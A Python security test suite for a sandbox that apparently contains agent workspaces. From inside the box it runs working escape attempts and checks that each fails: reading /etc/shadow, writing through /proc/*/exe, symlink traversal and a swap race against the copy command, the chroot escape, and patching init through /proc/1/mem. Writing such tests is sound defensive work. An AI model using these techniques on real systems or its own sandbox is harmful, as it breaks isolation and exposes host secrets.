#!/usr/bin/env python3
"""Attacks on the file system boundary: a box tries to read or write host files.

The test plants marker files with random content in host places a box must not
see (/root, /home, /var/lib, /etc/ssl/private, a root-only file in /etc, a new
top-level directory, the data dir) - some before the box starts, some while it
runs - and then searches the box for the random part, by path, by name and by
content. Every search also finds a control marker that the box itself wrote, so
a broken search cannot pass. Then: writing through /proc/*/exe, /proc/1/root,
symlinks fed to `agentbox cp` in both directions, and the classic chroot escape.
"""
import json
import os
import subprocess
import threading
import time

import attacklib as al
from attacklib import abtest

h = abtest.Harness()
al.sweep_stale(["/root/abtest-atk-*", "/root/abtest-late-*", "/home/abtest-atk-*", "/var/lib/abtest-atk-*",
                "/var/lib/abtest-late-*", "/var/abtest-late-*", "/abtest-atk-*", "/abtest-late-*", "/etc/abtest-atk-*",
                "/etc/ssl/private/abtest-atk-*", "/opt/abtest-atk-*", "/usr/local/share/abtest-atk-*"])
planted = al.Planted()
R = al.token(6)          # in every planted name
M = al.token(16)         # in every planted content
SECRET = "ABTESTSECRET"  # host markers: SECRET + kind + M
CTRL = "ABTESTCTRL"      # the box's own control marker


def secret(kind):
    return "%s-%s-%s" % (SECRET, kind, M)


try:
    # ---- host markers planted before the box exists ------------------------
    early = {
        "root": "/root/abtest-atk-%s.secret" % R,
        "home": "/home/abtest-atk-%s/.ssh/id_ed25519" % R,
        "varlib": "/var/lib/abtest-atk-%s/secret" % R,
        "toplevel": "/abtest-atk-%s/secret" % R,
        "datadir": os.path.join(h.data, "abtest-atk-%s.secret" % R),
        "harnessdir": os.path.join(h.root, "abtest-atk-%s.secret" % R),
        "etc0600": "/etc/abtest-atk-%s-secret" % R,
    }
    if os.path.isdir("/etc/ssl/private"):
        early["sslprivate"] = "/etc/ssl/private/abtest-atk-%s.key" % R
    for kind, path in early.items():
        planted.file(path, secret(kind) + "\n", 0o600)

    init_bin = os.environ.get("AGENTBOX_INIT") or os.path.join(os.path.dirname(h.bin), "agentbox-init")
    init_hash = al.sha256(init_bin) if os.path.exists(init_bin) else None
    py_real = os.path.realpath("/usr/bin/python3")
    py_hash = al.sha256(py_real)

    # A host file in a directory that boxes do share (/usr is part of the base;
    # /opt is not since the rootfs became a skeleton plus shared paths).
    opt_file = planted.file("/usr/local/share/abtest-atk-%s/tool.sh" % R, "#!/bin/sh\necho original-%s\n" % M, 0o755)
    opt_hash = al.sha256(opt_file)

    box = h.create(None, "--disk", "64M", "--memory", "256M", "--pids", "128")

    # ---- host markers planted while the box runs -----------------------------
    late = {
        "late-varlib": "/var/lib/abtest-late-%s/secret" % R,
        "late-var": "/var/abtest-late-%s/secret" % R,
        "late-toplevel": "/abtest-late-%s/secret" % R,
        "late-root": "/root/abtest-late-%s.secret" % R,
    }
    for kind, path in late.items():
        planted.file(path, secret(kind) + "\n", 0o644)

    allpaths = dict(early)
    allpaths.update(late)

    # ---- 1. search the whole box for the random part ---------------------------
    # The control marker is written by the box itself: the same search must
    # find it, by name and by content.
    search = r'''
    set +e
    R=%(R)s; M=%(M)s
    mkdir -p /workspace/ctl && echo "%(CTRL)s-box-$M" > /workspace/ctl/abtest-ctl-$R
    echo "== find"
    find / -path /proc -prune -o -path /sys -prune -o -name "*$R*" -print 2>/dev/null
    echo "== grep"
    grep -rsF -- "$M" /etc /root /home /srv /mnt /media /opt /tmp /run /workspace /skills \
        /var/lib /var/local /var/opt /var/mail /var/tmp /var/log /var/spool 2>/dev/null
    for d in /*; do
      case "$d" in /proc|/sys|/dev|/usr|/etc|/root|/home|/srv|/mnt|/media|/opt|/tmp|/run|/workspace|/skills|/var|/bin|/sbin|/lib*) ;;
      *) grep -rsF -- "$M" "$d" 2>/dev/null ;;
      esac
    done
    for d in /var/*; do
      case "$d" in /var/cache|/var/lib|/var/local|/var/opt|/var/mail|/var/tmp|/var/log|/var/spool) ;;
      *) grep -rsF -- "$M" "$d" 2>/dev/null ;;
      esac
    done
    echo "== cat"
    for p in %(paths)s; do
      cat "$p" "/proc/1/root$p" "/proc/self/root$p" 2>/dev/null
    done
    echo "== end"
    ''' % {"R": R, "M": M, "CTRL": CTRL, "paths": " ".join(allpaths.values())}
    r = al.bexec(h, box, search, t=60)
    h.ok(not r.timed_out and "== end" in r.out, "the in-box search ran to its end", r.describe())
    h.contains(r.out, "%s-box-%s" % (CTRL, M), "control: the search finds the box's own marker by content",
               r.describe())
    h.contains(r.out, "/workspace/ctl/abtest-ctl-%s" % R, "control: the search finds the box's own marker by name",
               r.describe())
    for kind, path in allpaths.items():
        when = "planted while the box runs" if kind.startswith("late") else "planted before the box started"
        seen = [ln for ln in r.out.splitlines() if secret(kind) in ln or ln.startswith(path)]
        h.ok(not seen, "host file %s (%s) is invisible in the box" % (path, when),
             "the box saw it:\n" + "\n".join(seen))

    # ---- 2. /etc/shadow and friends --------------------------------------------
    with open("/etc/shadow") as f:
        shadow_lines = [ln.strip() for ln in f if ln.strip()]
    r = al.bexec(h, box, "for f in /etc/shadow /etc/shadow- /etc/gshadow /etc/gshadow-; do "
                         "test -e $f && echo EXISTS $f; cat $f /proc/1/root$f 2>/dev/null; done; "
                         "getent shadow root; echo done")
    h.contains(r.out, "done", "the /etc/shadow probe ran", r.describe())
    if h.native:  # (a Debian image has shadow files of its own: the host's lines are checked below)
        h.not_contains(r.out, "EXISTS", "/etc/shadow, shadow-, gshadow, gshadow- do not exist in the box")
    leaked = [ln.split(":")[0] for ln in shadow_lines if ln in r.out]
    h.ok(not leaked, "no line of the host's /etc/shadow is readable in the box", "leaked entries: %r" % leaked)

    # ---- 3. the data dir: config.json, disk.img, init.sock -----------------------
    r = al.bexec(h, box, "ls -la %s %s 2>&1; find / -path /proc -prune -o \\( -path '*/boxes/*/config.json' -o "
                         "-name disk.img -o -name init.sock -o -path '*/boxes/*/state.json' \\) -print 2>/dev/null; "
                         "ls /dev; echo done" % (h.data, os.path.join(h.data, "boxes", box)), t=30)
    h.contains(r.out, "done", "the data dir probe ran", r.describe())
    h.contains(r.out, "No such file", "the data dir's path does not exist in the box", r.describe())
    h.not_contains(r.out, "disk.img", "the box cannot find any disk.img (its own disk image included)", r.out)
    h.not_contains(r.out, "config.json", "the box cannot find a box's config.json", r.out)
    if h.native:
        h.not_contains(r.out, "init.sock", "the box cannot reach its init's host socket", r.out)
    elif h.backend == "kubernetes":  # a pod's init listens on TCP only, behind the box's secret
        socks = [ln for ln in r.out.splitlines() if ln.endswith("init.sock")]
        h.eq(socks, [], "the box finds no init socket (a pod's init listens on TCP with the box's secret)",
             r.out)
    else:  # a container's init listens on a tmpfs of the box's own, bound at /.agentbox
        socks = [ln for ln in r.out.splitlines() if ln.endswith("init.sock")]
        h.eq(socks, ["/.agentbox/init.sock"], "the only init socket the box finds is its own init's, "
             "on a tmpfs of its own (no host path)", r.out)
    h.not_contains(r.out, "loop", "no loop device is visible in the box's /dev", r.out)

    # ---- 4. writing through /proc/self/exe and /proc/1/exe ---------------------------
    exe_probe = r'''
import errno, json, os
res = {}
for p in ("/proc/self/exe", "/proc/1/exe"):
    try:
        fd = os.open(p, os.O_WRONLY)
    except OSError as e:
        res[p] = "open:" + errno.errorcode.get(e.errno, str(e.errno))
        continue
    try:
        os.write(fd, b"\x7fELF")   # what a payload would begin with
        res[p] = "WRITTEN"
    except OSError as e:
        res[p] = "write:" + errno.errorcode.get(e.errno, str(e.errno))
    os.close(fd)
# control: the same code writes to an ordinary file
fd = os.open("/tmp/ctl-exe", os.O_WRONLY | os.O_CREAT)
res["control"] = os.write(fd, b"\x7fELF")
print(json.dumps(res))
'''
    r = al.bpy(h, box, exe_probe)
    res = al.last_json(r.out)
    h.eq(res.get("control"), 4, "control: the write probe writes to an ordinary file", r.describe())
    h.ok(res.get("/proc/self/exe", "WRITTEN") != "WRITTEN",
         "writing the box's python through /proc/self/exe fails", r.describe())
    h.ok(res.get("/proc/1/exe", "WRITTEN") != "WRITTEN",
         "writing the box init's binary through /proc/1/exe fails", r.describe())
    if init_hash:
        h.eq(al.sha256(init_bin), init_hash, "the host's agentbox-init binary is unchanged")
    h.eq(al.sha256(py_real), py_hash, "the host's python3 binary is unchanged")

    # ---- 5. writing shared base files stays in the box's own upper layer ---------------
    r = al.bexec(h, box, "cat %s; echo 'echo PWNED' > %s && chmod 4777 %s && cat %s; rm -f /usr/bin/env; "
                         "echo done" % (opt_file, opt_file, opt_file, opt_file))
    if h.native:  # (a Docker box's /usr is its image's, not the host's)
        h.contains(r.out, "original-%s" % M, "control: the box reads the shared /usr file from the base",
                   r.describe())
        h.contains(r.out, "PWNED", "control: the box may change its own copy", r.describe())
    h.eq(al.sha256(opt_file), opt_hash, "the host's /usr file is unchanged after the box rewrote it")
    h.eq(os.stat(opt_file).st_mode & 0o7777, 0o755, "the host file's mode is unchanged (no setuid planted)")
    h.ok(os.path.exists("/usr/bin/env"), "the host's /usr/bin/env survives rm -f inside the box")

    # ---- 5b. read-only mounts, overlay xattrs ---------------------------------------------------
    skills = os.path.join(h.data, "skills")
    skill_file = None
    if os.path.isdir(skills):
        skill_file = planted.file(os.path.join(skills, "abtest-skill-%s.md" % R), "skill-%s\n" % M, 0o644)
    r = al.bexec(h, box, "cat /mnt/skills/abtest-skill-%s.md; for p in /mnt/skills /skills; do "
                         "echo PWNED > $p/abtest-skill-%s.md; rm -f $p/abtest-skill-%s.md; touch $p/new-%s; done; "
                         "touch /dev/new-%s; rm -f /dev/null; ls /mnt/skills /skills; echo done" % ((R,) * 5), t=20)
    if skill_file:
        h.contains(r.out, "skill-%s" % M, "control: the box reads a host skill through /mnt/skills", r.describe())
        h.eq(open(skill_file).read(), "skill-%s\n" % M, "the box cannot change or delete a skill on the host")
        h.eq(sorted(n for n in os.listdir(skills) if n != ".staging"), ["abtest-skill-%s.md" % R],
             "the box cannot create files in the skills dir")
    else:
        h.skip("the box cannot write the skills dir", "no %s" % skills)
    h.ok(os.path.exists("/dev/null") and not os.path.exists("/dev/new-%s" % R),
         "the box cannot add or remove device files (host /dev untouched)")
    r2 = al.bexec(h, box, "ls -l /dev/null && test ! -e /dev/new-%s && echo DEV-INTACT" % R)
    if h.native:  # (a container's /dev is a tmpfs of its own; device nodes cannot be made: CAP_MKNOD dropped)
        h.contains(r2.out, "DEV-INTACT", "the box's own /dev is read-only (rm /dev/null, touch /dev/x failed)",
                   r2.describe())
    else:
        r3 = al.bexec(h, box, "mknod /tmp/abdev-%s c 1 3 2>&1; echo rc=$?" % R)
        h.ok("rc=0" not in r3.out, "the box cannot make a device node", r3.describe())
    xattr = r'''
import errno, json, os
os.makedirs("/workspace/redir", exist_ok=True)
os.makedirs("/opt/redir-%s" % os.getpid(), exist_ok=True)
res = {}
for path in ("/workspace/redir", "/opt/redir-%s" % os.getpid(), "/usr"):
    for name in ("trusted.overlay.redirect", "trusted.overlay.opaque", "trusted.overlay.origin", "trusted.abtest"):
        try:
            os.setxattr(path, name, b"/root")
            res[path + " " + name] = "SET"
        except OSError as e:
            res[path + " " + name] = errno.errorcode[e.errno]
try:
    os.setxattr("/workspace/redir", "user.abtest", b"x")
    res["control"] = "SET"
except OSError as e:
    res["control"] = errno.errorcode[e.errno]
print(json.dumps(res))
'''
    r = al.bpy(h, box, xattr)
    res = al.last_json(r.out)
    h.eq(res.get("control"), "SET", "control: the box sets a user.* xattr", r.describe())
    h.ok(len(res) > 1 and all(v != "SET" for k, v in res.items() if k != "control"),
         "the box cannot set trusted.* / trusted.overlay.* xattrs (no overlay redirect into hidden host paths)",
         json.dumps(res))

    # ---- 6. /proc/1/root is the box's root ----------------------------------------------
    # Box root has no CAP_SYS_PTRACE, so init's /proc/1/root is closed to it
    # altogether; the same probe through a box process of its own
    # (/proc/self/root) is the control that it works.
    r = al.bexec(h, box, "ls /proc/self/root/workspace >/dev/null && echo HAS_WORKSPACE; "
                         "readlink /proc/1/root; ls -a /proc/1/root/; "
                         "cat /proc/1/root%s /proc/self/root%s 2>/dev/null; echo done" % (early["root"], early["root"]))
    h.contains(r.out, "HAS_WORKSPACE", "control: /proc/self/root has the box's /workspace", r.describe())
    h.not_contains(r.out, "abtest-atk-%s" % R, "/proc/1/root does not show the host's top level", r.describe())
    h.not_contains(r.out, secret("root"), "/proc/1/root/root is not the host's /root")

    # ---- 7. symlinks through `agentbox cp` (box -> host) ------------------------------------
    out_dir = os.path.join(h.root, "cp-out")
    os.mkdir(out_dir)
    victim_dir = planted.dir(os.path.join(h.root, "victim-%s" % R))
    victim = os.path.join(victim_dir, "victim.txt")
    with open(victim, "w") as f:
        f.write("victim-%s\n" % M)
    victim_hash = al.sha256(victim)
    hostname_hash = al.sha256("/etc/hostname")
    links = {
        "l_shadow": "/etc/shadow",
        "l_root": early["root"],
        "l_up": "../../../../../../../../.." + early["root"],
        "l_varlib": early["varlib"],
        "l_victim": victim,
        "l_hostname": "/etc/hostname",
        "d_root": "/root",
        "d_victim": victim_dir,
        "d_up": "../../../../../../..",
    }
    r = al.bexec(h, box, "cd /workspace && " + " && ".join("ln -sfn %s %s" % (t, n) for n, t in links.items())
                 + " && mkdir -p tree && ln -sfn %s tree/inner && echo tree-file > tree/f && echo ok"
                 % early["root"])
    h.contains(r.out, "ok", "the box planted its symlinks", r.describe())

    def cp_out(src, name):
        dst = os.path.join(out_dir, name)
        rr = h.run("cp", "%s:%s" % (box, src), dst, timeout=30)
        got = ""
        for root, dirs, files in os.walk(dst) if os.path.isdir(dst) else [("", [], [dst])]:
            for fn in files:
                p = os.path.join(root, fn)
                try:
                    if not os.path.islink(p):
                        with open(p, errors="replace") as f:
                            got += f.read()
                except OSError:
                    pass
        return rr, got

    rr, got = cp_out("tree/f", "control-f")
    h.contains(got, "tree-file", "control: cp ID:tree/f out copies a regular file out of the box", rr.describe())
    shadow_root = shadow_lines[0] if shadow_lines else "root:"
    rr, got = cp_out("l_shadow", "shadow")
    h.ok(shadow_root not in got and "root:" not in got, "cp ID:link->/etc/shadow does not return the host's shadow",
         rr.describe())
    for name in ("l_root", "l_up", "l_varlib"):
        rr, got = cp_out(name, name)
        h.not_contains(got, M, "cp ID:%s (-> %s) does not return host content" % (name, links[name]), rr.describe())
    rr, got = cp_out("/workspace/l_up/../../../../etc/shadow", "shadow2")
    h.not_contains(got, "root:", "cp ID:/workspace/l_up/../../../../etc/shadow does not return host content",
                   rr.describe())
    for name in ("d_root", "d_up/root", "tree"):
        rr, got = cp_out(name, name.replace("/", "_"))
        h.not_contains(got, M, "cp ID:%s (a directory symlink) does not return host content" % name, rr.describe())
    inner = os.path.join(out_dir, "tree", "inner")
    h.ok(not os.path.exists(inner) or os.path.islink(inner),
         "a symlink inside a copied tree comes out as a link, never as the host file's content")

    # ---- 8. symlinks through `agentbox cp` (host -> box) ----------------------------------
    payload = os.path.join(h.root, "payload.txt")
    with open(payload, "w") as f:
        f.write("PWNED-%s\n" % M)
    rr = h.run("cp", payload, "%s:control-in.txt" % box, timeout=30)
    r = al.bexec(h, box, "cat /workspace/control-in.txt")
    h.contains(r.out, "PWNED-%s" % M, "control: cp FILE ID:path copies a file into the box", rr.describe())
    for name in ("l_victim", "l_hostname"):
        h.run("cp", payload, "%s:%s" % (box, name), timeout=30)
        h.run("cp", payload, "%s:/workspace/%s" % (box, name), timeout=30)
    h.eq(al.sha256(victim), victim_hash, "cp FILE ID:link (-> a host file path) leaves the host file unchanged")
    h.eq(al.sha256("/etc/hostname"), hostname_hash, "cp FILE ID:link (-> /etc/hostname) leaves the host's unchanged")
    for name in ("d_victim", "d_root", "d_up/var/tmp"):
        h.run("cp", payload, "%s:%s/dropped-%s" % (box, name, R), timeout=30)
    h.eq(sorted(os.listdir(victim_dir)), ["victim.txt"],
         "cp FILE ID:dirlink/new (dirlink -> a host dir) creates nothing in the host dir")
    h.ok(not os.path.exists("/root/dropped-%s" % R) and not os.path.exists("/var/tmp/dropped-%s" % R),
         "cp FILE ID:dirlink/new (-> /root, ../../var/tmp) creates nothing on the host")
    tree_src = os.path.join(h.root, "tree-src")
    os.makedirs(os.path.join(tree_src, "sub"))
    with open(os.path.join(tree_src, "sub", "victim.txt"), "w") as f:
        f.write("PWNED-tree-%s\n" % M)
    h.run("cp", tree_src, "%s:d_victim" % box, timeout=30)
    h.run("cp", os.path.join(tree_src, "sub"), "%s:d_victim" % box, timeout=30)
    h.eq(al.sha256(victim), victim_hash, "cp DIR ID:dirlink (-> a host dir) does not write into the host dir")
    h.eq(sorted(os.listdir(victim_dir)), ["victim.txt"], "... and creates nothing there")

    # ---- 9. race: a listing with a symlink and a directory of the same name -----------------
    # `cp ID:DIR out` lists DIR in the box, then recreates entries on the host in
    # path order: symlinks as symlinks, files by opening the host path. The box
    # watches (inotify) for the moment the listing descends into b/, and then
    # swaps the symlink a (-> the host victim dir) for a real directory a/ with
    # a file victim.txt. On tmpfs the directory stream then returns the new a/
    # too. If the host side trusted such a listing, it would create out/a ->
    # victim dir, then write out/a/victim.txt: the host's victim file.
    race = r'''
import ctypes, os, shutil, struct, sys, time
W, target, M = sys.argv[1], sys.argv[2], sys.argv[3]
libc = ctypes.CDLL(None, use_errno=True)
shutil.rmtree(W, ignore_errors=True)
os.mkdir(W)
os.symlink(target, W + "/a")
os.mkdir(W + "/b")
for i in range(400):
    open(W + "/b/f%03d" % i, "w").close()
fd = libc.inotify_init1(0)
wd = libc.inotify_add_watch(fd, (W + "/b").encode(), 0x20)  # IN_OPEN
print("ready", flush=True)
buf = os.read(fd, 4096)
os.unlink(W + "/a")
os.mkdir(W + "/a")
with open(W + "/a/victim.txt", "w") as f:
    f.write("PWNED-race-" + M + "\n")
print("swapped", flush=True)
'''
    fired = 0
    duplicates = 0
    for attempt in range(3):
        w = "/tmp/race%d" % attempt
        p = subprocess.Popen([h.bin, "--data", h.data, "exec", "--timeout", "20s", box, "--", al.py_cmd(race, w, victim_dir, M)],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        lines = []
        t = threading.Thread(target=lambda: lines.extend(p.stdout), daemon=True)
        t.start()
        deadline = time.time() + 15
        while time.time() < deadline and not lines and p.poll() is None:
            time.sleep(0.01)
        dst = os.path.join(h.root, "race-out-%d" % attempt)
        rr = h.run("cp", "%s:%s" % (box, w), dst, timeout=60)
        try:
            p.wait(timeout=25)
        except subprocess.TimeoutExpired:
            p.kill()
            p.wait()
        t.join(5)
        if any("swapped" in ln for ln in lines):
            fired += 1
        if os.path.islink(os.path.join(dst, "a")):
            duplicates += 1
        if al.sha256(victim) != victim_hash:
            break
    h.ok(fired > 0, "control: the in-box racer saw the listing and swapped a/ (%d of %d rounds)" % (fired, attempt + 1))
    with open(victim, errors="replace") as f:
        now = f.read()
    h.eq(al.sha256(victim), victim_hash,
         "a symlink/directory swap during `agentbox cp ID:DIR out` cannot write host files",
         "host file %s now holds %r (symlink a seen on the host in %d rounds)" % (victim, now[:200], duplicates))

    # ---- 10. the classic chroot escape -------------------------------------------------------
    chroot = r'''
import os, sys
R = sys.argv[1]
os.makedirs("/tmp/jail/inner", exist_ok=True)
fd = os.open("/", os.O_RDONLY)
os.chroot("/tmp/jail")
os.fchdir(fd)                       # cwd outside the new root
for _ in range(64):
    os.chdir("..")
os.chroot(".")
top = sorted(os.listdir("/"))
print("TOP", " ".join(top))
for p in sys.argv[2:]:
    try:
        print("READ", open(p).read())
    except OSError as e:
        print("ERR", e.errno)
print("CHROOT-DONE")
'''
    # Only the markers planted before the box started: the late ones are a
    # separate finding (section 1).
    r = al.bpy(h, box, chroot, R, early["root"], early["varlib"], early["toplevel"], early["home"])
    h.contains(r.out, "CHROOT-DONE", "the chroot escape ran", r.describe())
    top = [ln for ln in r.out.splitlines() if ln.startswith("TOP ")]
    h.ok(top and "workspace" in top[0].split(),
         "control: the escape leaves the jail (it lands at the box's root, which has /workspace)", r.describe())
    h.not_contains(r.out, M, "after the chroot escape no host marker is readable", r.describe())
    h.ok(top and "abtest-atk-%s" % R not in top[0], "after the chroot escape the host's top level is not visible",
         r.describe())

    # ---- 11. a box that rewrites its own init makes `agentbox cp` lie ---------------------
    # Box root holds CAP_SYS_PTRACE in its user namespace, and the ptrace
    # syscall is filtered - but /proc/1/mem is a second door to the init's
    # memory. The attack patches the init's "%s/%s" (how LIST joins a
    # directory and a name) into "../%s", so the listing of /tmp/W comes back
    # with "../victim" and "../../victim" paths. Then the operator runs
    # `agentbox cp ID:/tmp/W OUT/o`, and the host side writes the box's
    # /NAME over a host file two levels above o. Passes if either door is
    # shut: init's memory is out of reach, or the host refuses entries that
    # leave the destination.
    box2 = h.create(None, "--disk", "64M", "--memory", "256M", "--pids", "64")
    lie_victim = os.path.join(h.root, "lie-victim-%s.txt" % R)
    with open(lie_victim, "w") as f:
        f.write("host-original-%s\n" % M)
    lie_hash = al.sha256(lie_victim)
    name = os.path.basename(lie_victim)
    patch = r'''
import os, re, sys
fd = os.open("/proc/1/mem", os.O_RDWR)
n = 0
for line in open("/proc/1/maps").read().splitlines():
    f = line.split()
    lo, hi = [int(x, 16) for x in f[0].split("-")]
    if "r" not in f[1] or "[v" in line:
        continue
    try:
        data = os.pread(fd, hi - lo, lo)
    except OSError:
        continue
    for m in re.finditer(re.escape(b"%s/%s\x00"), data):
        os.pwrite(fd, b"../%s\x00", lo + m.start())
        n += 1
print("PATCHED", n)
'''
    setup = ("mkdir -p /tmp/W/%s/sub && echo PWNED-lie-%s > /tmp/W/%s/sub/x && echo PWNED-lie-%s > /%s && echo SETUP"
             % (name, M, name, M, name))
    r = al.bexec(h, box2, setup + " && " + al.py_cmd(patch) + "; true")
    h.contains(r.out, "SETUP", "the lying-init attack set up its tree", r.describe())
    lie_out = os.path.join(h.root, "lie-out")
    os.mkdir(lie_out)
    rr = h.run("cp", "%s:/tmp/W" % box2, os.path.join(lie_out, "o"), timeout=30)
    with open(lie_victim, errors="replace") as f:
        now = f.read()
    h.eq(al.sha256(lie_victim), lie_hash,
         "a box that patches its init through /proc/1/mem cannot make `agentbox cp ID:DIR out` write a host file "
         "outside out",
         "host file %s now holds %r\nin-box patch: %s\ncp: %s" % (lie_victim, now[:200], r.out.strip(), rr.describe()))
    h.ok(not os.path.exists(os.path.join(lie_out, name)), "... nor create anything next to out",
         "found %s" % os.path.join(lie_out, name))
finally:
    for p in planted.cleanup():
        h.diag("cleanup of planted files: " + p)

h.done()
